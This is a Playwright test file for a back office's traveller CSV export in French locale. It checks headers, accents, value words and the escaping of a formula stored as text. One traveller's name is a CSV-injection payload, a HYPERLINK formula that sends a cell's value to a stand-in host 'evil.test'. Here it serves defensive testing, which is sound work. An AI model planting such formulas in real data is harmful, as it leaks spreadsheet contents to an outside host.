import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { authHeaders, LIST_ROW, shot, signInThroughApi } from './support.ts';
import { csvRows } from '../support/csv.ts';

/**
 * An agent exports a list of the back office and opens it as a French office does: the screen's titles, accents,
 * references by their titles, words for values, and a traveller whose name is a formula kept as text.
 */
test.use({ locale: 'fr-FR' });

test('an agent’s CSV export of the travellers opens in a French spreadsheet, formulas as text', async ({ page }) => {
  const headers = await authHeaders(page.request, 'admin@agence-demo.fr');
  const companies = await page.request.get(`/backend/api/companies?filter=${encodeURIComponent(JSON.stringify({ q: 'Acme Industries' }))}`, { headers });
  const acme = ((await companies.json()) as { id: number; name: string }[]).find((company) => company.name === 'Acme Industries')!;
  const marker = `Exp${Date.now().toString(36)}`;
  const formula = `=HYPERLINK("http://evil.test/?leak="&B2,"${marker}")`;
  for (const traveller of [
    { first_name: 'Andrée', last_name: `Lefèvre ${marker}`, company: acme.id },
    { first_name: marker, last_name: formula, company: acme.id, enabled: false },
  ]) {
    const created = await page.request.post('/backend/api/travellers', { headers, data: traveller });
    expect(created.status(), await created.text()).toBe(201);
  }

  await signInThroughApi(page, 'admin@agence-demo.fr');
  await page.goto(`/admin/traveller?filter=${encodeURIComponent(JSON.stringify({ q: marker }))}`);
  await expect(page.locator(LIST_ROW)).toHaveCount(2);
  await shot(page, 'exports', '01-travellers');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Exporter' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('travellers.csv');
  const text = await readFile(await file.path(), 'utf8');
  expect(text.startsWith('\ufeff')).toBe(true);

  const [header, ...rows] = await csvRows(text);
  expect(header).toEqual(['Nom', 'Prénom', 'Email', 'Téléphone mobile', 'Société', 'Actif']);
  const byFirstName = new Map(rows.map((row) => [row[1], row]));
  expect(byFirstName.get('Andrée')).toEqual([`Lefèvre ${marker}`, 'Andrée', '', '', 'Acme Industries', 'Oui']);
  expect(byFirstName.get(marker)).toEqual([`'${formula}`, marker, '', '', 'Acme Industries', 'Non']);
});
